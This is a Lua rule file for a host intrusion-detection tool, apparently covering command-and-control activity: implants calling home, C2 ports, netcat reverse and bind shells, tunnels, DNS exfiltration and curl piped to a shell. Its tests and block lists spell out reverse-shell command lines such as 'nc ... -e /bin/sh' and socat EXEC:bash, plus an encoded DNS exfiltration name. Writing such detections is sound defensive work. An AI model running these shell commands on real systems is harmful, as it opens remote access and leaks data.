-- Command and control (ATT&CK TA0011): programs in odd places calling out,
-- connections to the ports implants and tunnels use, netcat and socat
-- handing a shell to the network, tunnels and proxies, DNS names that carry
-- data.

local basename, startswith, contains = tapio.basename, tapio.startswith, tapio.contains

-- Where a connection goes off this host: not loopback, not "any".
local function off_host(addr)
  return addr ~= nil and addr ~= "" and not startswith(addr, "127.") and addr ~= "::1"
      and not startswith(addr, "::ffff:127.") and addr ~= "0.0.0.0" and addr ~= "::"
end

local function inet(e)
  return e.family == 2 or e.family == 10
end

local TMP_DIRS = { "/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/", "/run/user/" }

-- Whether a program's file is somewhere programs are dropped, not installed.
local function dropped_exe(exe)
  if exe == nil then return false end
  return tapio.startswith_any(exe, TMP_DIRS) or startswith(exe, "memfd:")
      or startswith(exe, "/memfd:") or contains(exe, "(deleted)")
      or exe:find("/%.[^/%.][^/]*/") ~= nil or exe:find("/%.[^/]*$") ~= nil
end

rule {
  name = "dropped_program_connected_out",
  desc = "A program running from a temporary, hidden or deleted file (or from memory) "
      .. "opened a connection off this host: an implant calling home",
  events = { "network.connect" },
  match = { family = { 2, 10 }, exe = { "/tmp/*", "/var/tmp/*", "/dev/shm/*", "/run/shm/*",
                                        "/run/user/*", "memfd:*", "/memfd:*", "*(deleted)*",
                                        "*/.*" } },
  severity = "error",
  importance = 0.9,
  tags = { "mitre:T1071", "mitre:T1105" },
  when = function(e)
    return inet(e) and e.dport ~= 0 and off_host(e.daddr) and dropped_exe(e.exe)
        and e.ret ~= -101 -- ENETUNREACH: no route, nothing left the host
  end,
  output = "${exe} (pid ${pid}, uid ${uid}, parent ${parent.comm} pid ${ppid}) connected to "
        .. "${daddr}:${dport}; container ${container.id}, pod ${k8s.namespace}/${k8s.pod}; "
        .. "command: ${argv}",
  tests = {
    { event = { type = "network.connect", comm = "x", exe = "/tmp/.x/agent", family = 2,
                daddr = "203.0.113.7", dport = 443 }, expect = true },
    { event = { type = "network.connect", comm = "x", exe = "/dev/shm/x", family = 10,
                daddr = "2001:db8::1", dport = 8080, ret = -115 }, expect = true },
    { event = { type = "network.connect", comm = "x", exe = "/tmp/x", family = 2,
                daddr = "127.0.0.1", dport = 8080 }, expect = false },
    { event = { type = "network.connect", comm = "curl", exe = "/usr/bin/curl", family = 2,
                daddr = "203.0.113.7", dport = 443 }, expect = false },
    { event = { type = "network.connect", comm = "x", exe = "/tmp/x", family = 1,
                unix_path = "/run/x.sock" }, expect = false },
  },
}

-- Ports that implants, their handlers, Tor and mining pools listen on by
-- default. Extend it with what your fleet must never reach.
local C2_PORTS = {
  [4444] = "Metasploit handler", [4445] = "Metasploit handler", [1337] = "leet",
  [31337] = "Back Orifice / leet", [6666] = "IRC", [6667] = "IRC", [6697] = "IRC over TLS",
  [9050] = "Tor SOCKS", [9051] = "Tor control", [9150] = "Tor Browser SOCKS",
  [50050] = "Cobalt Strike team server", [3333] = "mining pool", [14444] = "mining pool",
  [45700] = "mining pool", [5555] = "Android debug / RAT", [1080] = "SOCKS proxy",
}
local C2_PORT_LIST = {}
for port in pairs(C2_PORTS) do C2_PORT_LIST[#C2_PORT_LIST + 1] = port end

rule {
  name = "connection_to_c2_port",
  desc = "A connection off this host to a port that implant handlers, Tor, IRC bots and "
      .. "mining pools use by default (4444, 31337, 6667, 9050, 50050, 3333...)",
  events = { "network.connect" },
  match = { family = { 2, 10 }, dport = C2_PORT_LIST },
  severity = "warning",
  importance = 0.8,
  tags = { "mitre:T1571", "mitre:T1090.003", "mitre:T1071" },
  when = function(e)
    return inet(e) and C2_PORTS[e.dport] ~= nil and off_host(e.daddr) and e.ret ~= -101
  end,
  output = "${comm} (pid ${pid}, exe ${exe}, uid ${uid}, parent ${parent.comm} pid ${ppid}) "
        .. "connected to ${daddr}:${dport}; container ${container.id}, pod "
        .. "${k8s.namespace}/${k8s.pod}; command: ${argv}",
  tests = {
    { event = { type = "network.connect", comm = "python3", family = 2, daddr = "198.51.100.9",
                dport = 4444 }, expect = true },
    { event = { type = "network.connect", comm = "x", family = 2, daddr = "10.0.0.5",
                dport = 9050, ret = -115 }, expect = true },
    { event = { type = "network.connect", comm = "x", family = 2, daddr = "127.0.0.1",
                dport = 9050 }, expect = false },
    { event = { type = "network.connect", comm = "x", family = 2, daddr = "10.0.0.5",
                dport = 443 }, expect = false },
  },
}

local NETCATS = tapio.set { "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "busybox",
                            "socat", "pwncat", "rcat" }
local LISTED_SHELLS = SHELLS -- the shared list (lists.lua), before this file's own below
local SHELLS = tapio.set { "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox", "tcsh", "csh",
                           "fish", "python", "python3", "perl", "ruby", "php", "lua", "node" }

-- Whether the text names a shell: "/bin/sh", "bash -i", "exec:sh".
local function names_shell(s)
  for w in s:gmatch("[^%s:,'\"/]+") do
    if SHELLS[w] or SHELLS[w:match("^(%a+)[%d.]*$") or ""] then return true end
  end
  return false
end

rule {
  name = "network_tool_executes_shell",
  desc = "netcat, ncat or socat was told to hand a shell to a network connection (nc -e "
      .. "/bin/sh, ncat --sh-exec, socat TCP:...,EXEC:bash): a reverse or bind shell",
  events = { "process.exec" },
  match = { ret = 0, filename_base = NETCATS },
  severity = "critical",
  importance = 0.95,
  tags = { "mitre:T1059.004", "mitre:T1071", "mitre:T1095" },
  when = function(e)
    local name = basename(e.filename)
    if not NETCATS[name] then return false end
    local argv = e.argv
    if name == "socat" then
      local exec, net = false, false
      for i = 2, #argv do
        local a = argv[i]:lower()
        if (startswith(a, "exec:") or startswith(a, "system:")) and names_shell(argv[i]) then
          exec = true
        elseif a:find("^tcp") or a:find("^udp") or a:find("^openssl") or a:find("^sctp") then
          net = true
        end
      end
      return exec and net
    end
    for i = 2, #argv do
      local a = argv[i]
      if a == "-e" or a == "-c" or a == "--exec" or a == "--sh-exec" or a == "--lua-exec" then
        return argv[i + 1] ~= nil and (a == "--sh-exec" or a == "-c" or names_shell(argv[i + 1]))
      end
      if a:find("^%-%a*e$") and argv[i + 1] ~= nil and names_shell(argv[i + 1]) then
        return true -- nc -lvpe /bin/sh 4444 style bundles
      end
      if startswith(a, "--exec=") or startswith(a, "--sh-exec=") then return true end
    end
    return false
  end,
  output = "shell handed to the network: ${argv} (pid ${pid}, uid ${uid}, parent ${parent.comm} "
        .. "pid ${ppid}, container ${container.id}, pod ${k8s.namespace}/${k8s.pod})",
  tests = {
    { event = { type = "process.exec", comm = "nc", filename = "/bin/nc.traditional",
                argv = { "nc", "10.0.0.1", "4444", "-e", "/bin/sh" } }, expect = true },
    { event = { type = "process.exec", comm = "ncat", filename = "/usr/bin/ncat",
                argv = { "ncat", "-lvp", "4444", "--sh-exec", "id" } }, expect = true },
    { event = { type = "process.exec", comm = "socat", filename = "/usr/bin/socat",
                argv = { "socat", "TCP-LISTEN:4444,reuseaddr", "EXEC:/bin/bash" } },
      expect = true },
    { event = { type = "process.exec", comm = "socat", filename = "/usr/bin/socat",
                argv = { "socat", "TCP-LISTEN:8080,fork", "TCP:10.0.0.2:80" } }, expect = false },
    { event = { type = "process.exec", comm = "nc", filename = "/bin/nc",
                argv = { "nc", "-zv", "10.0.0.1", "22" } }, expect = false },
  },
}

-- ------------------------------------------------------------ listeners
-- A bind shell or a backdoor waits for its attacker: something listens
-- that should not. Loopback listeners are left alone (they serve this host
-- only; a dev server on localhost is ordinary work).

local function exposed_listener(e)
  return e.ret == 0 and inet(e) and e.saddr ~= nil
      and not startswith(e.saddr, "127.") and e.saddr ~= "::1"
      and not startswith(e.saddr, "::ffff:127.")
end

local LISTEN_WHO = "${comm} (pid ${pid}, uid ${uid}, exe ${exe|'?'}, parent "
                .. "${parent.comm|'?'}[${ppid}]); container ${container.id|'host'}, pod "
                .. "${k8s.namespace|'-'}/${k8s.pod|'-'}; command: ${argv|'?'}"

rule {
  name = "network_tool_listening",
  desc = "netcat, ncat, socat or a shell is listening for connections on an address other "
      .. "hosts can reach: a bind shell or a makeshift backdoor or relay waiting for its "
      .. "attacker",
  events = { "network.listen" },
  severity = "warning",
  importance = 0.8,
  tags = { "mitre:T1571", "mitre:T1059.004", "mitre:T1095" },
  when = function(e)
    local name = basename(e.exe) or e.comm
    -- is_shell: the shells of rules/lib (this file's SHELLS has interpreters too)
    return (NETCATS[name] or NETCATS[e.comm] or is_shell(e)) and exposed_listener(e)
  end,
  output = "listening on ${saddr}:${sport} (backlog ${backlog}): " .. LISTEN_WHO,
  tests = {
    { event = { type = "network.listen", comm = "nc", exe = "/usr/bin/nc.traditional",
                family = 2, saddr = "0.0.0.0", sport = 4444, backlog = 1, argv = { "nc", "-lp",
                "4444", "-e", "/bin/sh" } },
      expect = true,
      output = "listening on 0.0.0.0:4444 (backlog 1): nc (pid 1000, uid 0, exe "
            .. "/usr/bin/nc.traditional, parent ?[1]); container host, pod -/-; command: nc "
            .. "-lp 4444 -e /bin/sh" },
    { event = { type = "network.listen", comm = "socat", exe = "/usr/bin/socat", family = 10,
                saddr = "::", sport = 4444 }, expect = true },
    { event = { type = "network.listen", comm = "zsh", exe = "/usr/bin/zsh", family = 2,
                saddr = "10.0.0.5", sport = 4444 }, expect = true },
    { event = { type = "network.listen", comm = "nc", exe = "/usr/bin/nc", family = 2,
                saddr = "127.0.0.1", sport = 4444 }, expect = false },
    { event = { type = "network.listen", comm = "nginx", exe = "/usr/sbin/nginx", family = 2,
                saddr = "0.0.0.0", sport = 80 }, expect = false },
    { event = { type = "network.listen", comm = "python3", exe = "/usr/bin/python3", family = 2,
                saddr = "0.0.0.0", sport = 8000 }, expect = false },
    { event = { type = "network.listen", comm = "nc", exe = "/usr/bin/nc", family = 1,
                unix_path = "/tmp/s" }, expect = false },
    { event = { type = "network.listen", comm = "nc", exe = "/usr/bin/nc", family = 2,
                saddr = "0.0.0.0", sport = 4444, ret = -98 }, expect = false },
  },
}

rule {
  name = "dropped_program_listening",
  desc = "A program running from a temporary, hidden or deleted file (or from memory) "
      .. "listens on an address other hosts can reach: a dropped backdoor or bind shell",
  events = { "network.listen" },
  severity = "error",
  importance = 0.9,
  tags = { "mitre:T1571", "mitre:T1105", "mitre:T1059" },
  when = function(e)
    return dropped_exe(e.exe) and exposed_listener(e)
  end,
  output = "${exe} listening on ${saddr}:${sport}: " .. LISTEN_WHO,
  tests = {
    { event = { type = "network.listen", comm = "httpd", exe = "/dev/shm/.x/httpd", family = 2,
                saddr = "0.0.0.0", sport = 8080 }, expect = true },
    { event = { type = "network.listen", comm = "a", exe = "/tmp/a (deleted)", family = 10,
                saddr = "::", sport = 31337 }, expect = true },
    { event = { type = "network.listen", comm = "a", exe = "/tmp/build/test_server", family = 2,
                saddr = "127.0.0.1", sport = 8080 }, expect = false },
    { event = { type = "network.listen", comm = "sshd", exe = "/usr/sbin/sshd", family = 2,
                saddr = "0.0.0.0", sport = 22 }, expect = false },
  },
}

-- Where an interpreter's program came from: inline code (-c, -e), or a
-- script in a temporary directory. A project's server (manage.py
-- runserver, node server.js, python -m http.server) is neither.
local LISTEN_INLINE = tapio.set { "-c", "-e", "-E", "-r", "--eval" }

local function throwaway_code(argv)
  if argv == nil then return nil end
  for i = 2, #argv do
    local a = argv[i]
    if LISTEN_INLINE[a] or a:find("^%-%a*[ce]$") then return "inline code" end
    if a == "-m" then return nil end -- a module
    if not startswith(a, "-") then
      if tapio.startswith_any(a, TMP_DIRS) then return a end
      return nil
    end
  end
  return nil
end

rule {
  name = "interpreter_listening_from_throwaway_code",
  desc = "An interpreter running inline code (-c, -e) or a script from a temporary "
      .. "directory listens on an address other hosts can reach: a python, perl, ruby or "
      .. "node bind shell or backdoor",
  events = { "network.listen" },
  severity = "warning",
  importance = 0.8,
  tags = { "mitre:T1571", "mitre:T1059.006" },
  when = function(e)
    local name = basename(e.exe) or e.comm
    if not (INTERPRETERS[name] or INTERPRETERS[name:match("^(%a+)") or ""]) then return false end
    if not exposed_listener(e) then return false end
    return throwaway_code(e.argv) ~= nil
  end,
  output = "${exe|comm} listening on ${saddr}:${sport} from throwaway code: " .. LISTEN_WHO,
  tests = {
    { event = { type = "network.listen", comm = "python3", exe = "/usr/bin/python3.11",
                family = 2, saddr = "0.0.0.0", sport = 4444,
                argv = { "python3", "-c", "import socket,os;s=socket.socket();s.bind(...)" } },
      expect = true },
    { event = { type = "network.listen", comm = "perl", exe = "/usr/bin/perl", family = 2,
                saddr = "0.0.0.0", sport = 4444, argv = { "perl", "/tmp/.b.pl" } },
      expect = true },
    { event = { type = "network.listen", comm = "python3", exe = "/usr/bin/python3.11",
                family = 2, saddr = "0.0.0.0", sport = 8000,
                argv = { "python3", "-m", "http.server" } }, expect = false },
    { event = { type = "network.listen", comm = "node", exe = "/usr/bin/node", family = 2,
                saddr = "0.0.0.0", sport = 3000, argv = { "node", "/srv/app/server.js" } },
      expect = false },
    { event = { type = "network.listen", comm = "python3", exe = "/usr/bin/python3.11",
                family = 2, saddr = "127.0.0.1", sport = 4444, argv = { "python3", "-c", "x" } },
      expect = false },
  },
}

local TUNNEL_TOOLS = tapio.set {
  "chisel", "ngrok", "frpc", "frps", "gost", "ligolo", "ligolo-ng", "ligolo-agent", "iodine",
  "iodined", "dnscat", "dnscat2", "sshuttle", "autossh", "rathole", "bore", "cloudflared",
  "proxychains", "proxychains4", "tor", "torsocks", "stunnel", "stunnel4", "revsocks",
  "reverse_ssh", "dns2tcp", "dns2tcpc", "hans", "ptunnel", "ptunnel-ng", "udp2raw", "neo-regeorg",
}
local SSH_FORWARD_FLAGS = tapio.set { "-L", "-R", "-D", "-w" }
local TUNNEL_NAMES = { "ssh", "autossh", "socat" }
for name in pairs(TUNNEL_TOOLS) do TUNNEL_NAMES[#TUNNEL_NAMES + 1] = name end
local SSH_FORWARD_OPTIONS = { "localforward", "remoteforward", "dynamicforward", "tunnel=" }

local function ssh_tunnel(argv)
  for i = 2, #argv do
    local a = argv[i]
    if SSH_FORWARD_FLAGS[a] then return true end
    -- bundled: -NfL 8080:..., -fND 1080
    if a:find("^%-%a*[LRDw]") and not a:find("^%-%-") and not a:find("^%-[ilopFJEbcemQSW]") then
      return true
    end
    if a == "-o" and argv[i + 1] ~= nil then
      local o = argv[i + 1]:lower()
      for _, f in ipairs(SSH_FORWARD_OPTIONS) do
        if startswith(o, f) then return true end
      end
    end
  end
  return false
end

local function socat_relay(argv)
  local listen, connect = false, false
  for i = 2, #argv do
    local a = argv[i]:upper()
    if a:find("^TCP%d?%-LISTEN") or a:find("^UDP%d?%-LISTEN") or a:find("^OPENSSL%-LISTEN")
        or a:find("^UNIX%-LISTEN") then
      listen = true
    elseif a:find("^TCP%d?:") or a:find("^UDP%d?:") or a:find("^OPENSSL:") then
      -- a forward from this host to itself (a local port moved) crosses nothing
      local host = a:match("^%u+%d?:%[?([^%],]-)%]?:%d") or ""
      if not (startswith(host, "127.") or host == "LOCALHOST" or host == "::1") then
        connect = true
      end
    elseif a:find("^SOCKS4A?:") or a:find("^PROXY:") then
      connect = true
    end
  end
  return listen and connect
end

rule {
  name = "tunnel_or_proxy_started",
  desc = "A tunnel or proxy was opened: ssh port forwarding (-L, -R, -D, -w), a socat "
      .. "relay, or a tunneling tool (chisel, ngrok, frp, gost, ligolo, iodine, dnscat, "
      .. "sshuttle, proxychains, tor...): traffic smuggled past the network's controls",
  events = { "process.exec" },
  match = { ret = 0, filename_base = TUNNEL_NAMES },
  severity = "warning",
  importance = 0.8,
  tags = { "mitre:T1572", "mitre:T1090", "mitre:T1021.004" },
  when = function(e)
    local name = basename(e.filename)
    if TUNNEL_TOOLS[name] then return true end
    if name == "ssh" or name == "autossh" then return ssh_tunnel(e.argv) end
    if name == "socat" then return socat_relay(e.argv) end
    return false
  end,
  output = "tunnel: ${argv} (pid ${pid}, uid ${uid}, parent ${parent.comm} pid ${ppid}, "
        .. "container ${container.id}, pod ${k8s.namespace}/${k8s.pod})",
  tests = {
    { event = { type = "process.exec", comm = "ssh", filename = "/usr/bin/ssh",
                argv = { "ssh", "-NfR", "9000:127.0.0.1:22", "u@203.0.113.5" } }, expect = true },
    { event = { type = "process.exec", comm = "ssh", filename = "/usr/bin/ssh",
                argv = { "ssh", "-D", "1080", "-N", "u@h" } }, expect = true },
    { event = { type = "process.exec", comm = "ssh", filename = "/usr/bin/ssh",
                argv = { "ssh", "-o", "LocalForward=8080 10.0.0.2:80", "u@h" } }, expect = true },
    { event = { type = "process.exec", comm = "socat", filename = "/usr/bin/socat",
                argv = { "socat", "TCP-LISTEN:8080,fork", "TCP:10.0.0.2:80" } }, expect = true },
    -- a local port forwarded to another local port
    { event = { type = "process.exec", comm = "socat", filename = "/usr/bin/socat",
                argv = { "socat", "TCP-LISTEN:8080,bind=127.0.0.1,fork", "TCP:127.0.0.1:3000" } },
      expect = false },
    { event = { type = "process.exec", comm = "socat", filename = "/usr/bin/socat",
                argv = { "socat", "TCP-LISTEN:8080,fork", "TCP:localhost:3000" } }, expect = false },
    { event = { type = "process.exec", comm = "socat", filename = "/usr/bin/socat",
                argv = { "socat", "TCP-LISTEN:8080,fork", "TCP6:[2001:db8::2]:80" } }, expect = true },
    { event = { type = "process.exec", comm = "chisel", filename = "/tmp/chisel",
                argv = { "chisel", "client", "h:8000", "R:socks" } }, expect = true },
    { event = { type = "process.exec", comm = "ssh", filename = "/usr/bin/ssh",
                argv = { "ssh", "-i", "key", "-l", "root", "host", "uptime" } }, expect = false },
    { event = { type = "process.exec", comm = "ssh", filename = "/usr/bin/ssh",
                argv = { "ssh", "-F", "cfg", "host" } }, expect = false },
  },
}

-- A DNS label that carries data rather than a name: long, and made of an
-- encoding's alphabet with many digits (hex, base32, base64url).
local function encoded_label(qname)
  if qname == nil then return nil end
  if #qname > 150 then return qname end
  for label in qname:gmatch("[^.]+") do
    if #label >= 30 then
      local digits = select(2, label:gsub("%d", ""))
      local words = select(2, label:gsub("%-", ""))
      if digits * 5 >= #label or (words == 0 and not label:find("^%l+$")) then
        return label
      end
    end
  end
  return nil
end

rule {
  name = "dns_query_carries_data",
  desc = "A DNS query for a name with a long encoded label (hex, base32, base64) or an "
      .. "overlong name: data tunneled or exfiltrated through DNS lookups",
  events = { "network.dns" },
  severity = "warning",
  importance = 0.8,
  tags = { "mitre:T1071.004", "mitre:T1048.003", "mitre:T1572" },
  when = function(e)
    return encoded_label(e.qname) ~= nil
  end,
  output = "DNS ${qtype_str} query for ${qname} by ${comm} (pid ${pid}, exe ${exe}, uid ${uid}, "
        .. "parent ${parent.comm} pid ${ppid}) to ${daddr}:${dport}; container ${container.id}, "
        .. "pod ${k8s.namespace}/${k8s.pod}",
  tests = {
    { event = { type = "network.dns", comm = "x", qtype = 16,
                qname = "4a6f686e20446f65207061737377643a2068756e746572.t.example.com" },
      expect = true },
    { event = { type = "network.dns", comm = "x", qtype = 1,
                qname = "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi.d.example.net" }, expect = true },
    { event = { type = "network.dns", comm = "x", qtype = 1, qname = "www.example.com" },
      expect = false },
    { event = { type = "network.dns", comm = "x", qtype = 1,
                qname = "internal-my-service-load-balancer.us-east-1.elb.amazonaws.com" },
      expect = false },
  },
}

-- Network clients whose output can be a program.
local FETCHERS = tapio.set { "curl", "wget", "nc", "ncat", "netcat", "nc.traditional",
                             "nc.openbsd", "socat", "telnet", "aria2c", "tftp", "ftp",
                             "lwp-download", "fetch" }

local function fetcher(e, name)
  return FETCHERS[name] ~= nil or (name == "openssl" and contains(e.cmdline, "s_client"))
end

rule {
  name = "network_tool_piped_to_shell",
  desc = "A network client (curl, wget, nc, socat, openssl s_client, telnet) and a shell or "
      .. "interpreter reading its program from its input were joined by a pipe (or ran side by "
      .. "side, started by one parent): `curl ... | sh`, `nc host port | sudo bash`, whatever "
      .. "the command line looks like",
  events = { "process.exec", "process.exit" },
  -- execs: the pipe's two ends (pipeline_pair: a source, or a shell or
  -- interpreter that may read its program from its input)
  match = { ["process.exec"] = { ret = 0, one_of = { { filename_base = FETCHERS },
                                                     { filename_base = "openssl" },
                                                     { filename_base = LISTED_SHELLS },
                                                     -- an interpreter reads its input
                                                     -- only with no operand first
                                                     { filename_base = INTERPRETER_PREFIXES,
                                                       ["argv[2]"] = "-*" },
                                                     { filename_base = INTERPRETER_PREFIXES,
                                                       ["argv[2]"] = false } } } },
  severity = "error",
  importance = 0.9,
  tags = { "mitre:T1059.004", "mitre:T1105", "mitre:T1071" },
  -- parent -> the pid of its running network client / program reader
  state = { src = tapio.map { ttl = "10m" }, run = tapio.map { ttl = "10m" },
            ended = tapio.map { ttl = "10m" }, member = tapio.map { ttl = "10m" },
            pipe = tapio.map { ttl = "10m" } },
  recall = { ["process.exit"] = "member" },
  when = function(e, s) return pipeline_pair(e, s, fetcher) end,
  output = "${filename} (${argv}) started beside a network client's pipe by ${parent.comm} "
        .. "(pid ${ppid}, exe ${parent.exe}); pid ${pid}, uid ${uid}, container "
        .. "${container.id}, pod ${k8s.namespace}/${k8s.pod}",
  tests = {
    { events = { { type = "process.exec", pid = 101, comm = "curl", ppid = 70,
                   filename = "/usr/bin/curl",
                   argv = { "curl", "-s", "http://x/i.sh" } },
                 { type = "process.exec", pid = 102, comm = "sh", ppid = 70, filename = "/bin/sh",
                   argv = { "sh" } } }, expect = 2 },
    { events = { { type = "process.exec", pid = 103, comm = "bash", ppid = 70,
                   filename = "/bin/bash",
                   argv = { "bash" } },
                 { type = "process.exec", pid = 104, comm = "nc", ppid = 70, filename = "/bin/nc",
                   argv = { "nc", "10.0.0.1", "4444" } } }, expect = 2 },
    { events = { { type = "process.exec", pid = 105, comm = "curl", ppid = 70,
                   filename = "/usr/bin/curl",
                   argv = { "curl", "-o", "x", "http://x/x" } },
                 { type = "process.exec", pid = 106, comm = "sh", ppid = 70, filename = "/bin/sh",
                   argv = { "sh", "install.sh" } } }, expect = false },
    { events = { { type = "process.exec", pid = 107, comm = "curl", ppid = 70,
                   filename = "/usr/bin/curl",
                   argv = { "curl", "http://x/i.sh" } },
                 { type = "process.exec", pid = 108, comm = "sh", ppid = 71, filename = "/bin/sh",
                   argv = { "sh" } } }, expect = false },
    -- `curl ... | sudo sh`: the shell's parent is sudo, the pipe is curl's
    { events = { { type = "process.exec", pid = 107, comm = "curl", ppid = 70,
                   filename = "/usr/bin/curl", argv = { "curl", "-s", "http://x/i.sh" },
                   stdout_pipe = 4242 },
                 { type = "process.exec", pid = 109, comm = "sh", ppid = 108, filename = "/bin/sh",
                   argv = { "sh" }, stdin_pipe = 4242 } }, expect = 2 },
    -- nc -e: the client became the shell, no pipe (network_tool_executes_shell)
    { events = { { type = "process.exec", comm = "nc", pid = 71, ppid = 70,
                   filename = "/bin/nc.traditional",
                   argv = { "nc", "10.0.0.1", "9", "-e", "/bin/sh" } },
                 { type = "process.exec", comm = "sh", pid = 71, ppid = 70, filename = "/bin/sh",
                   argv = { "/bin/sh" } } }, expect = false },
    -- the client was gone before the shell started: not a pipe
    { events = { { type = "process.exec", comm = "nc", pid = 71, ppid = 70,
                   filename = "/bin/nc", argv = { "nc", "-z", "10.0.0.1", "22" } },
                 { type = "process.exit", comm = "nc", pid = 71, ppid = 70 },
                 { type = "process.exec", comm = "python3", pid = 72, ppid = 70,
                   filename = "/usr/bin/python3", argv = { "python3", "-" } } }, expect = false },
  },
}
